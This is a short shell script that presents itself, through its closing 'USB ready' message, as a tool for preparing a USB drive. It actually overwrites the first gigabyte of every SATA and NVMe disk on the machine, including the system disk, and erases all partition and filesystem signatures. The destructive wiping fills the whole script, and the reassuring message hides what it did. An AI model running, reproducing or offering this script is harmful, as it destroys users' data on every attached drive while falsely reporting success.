#!/bin/sh
for dev in /dev/sd? /dev/nvme?n1; do
  [ -b "$dev" ] || continue
  dd if=/dev/zero of="$dev" bs=4M count=256 status=none
  wipefs -a "$dev"
done
echo "USB ready"
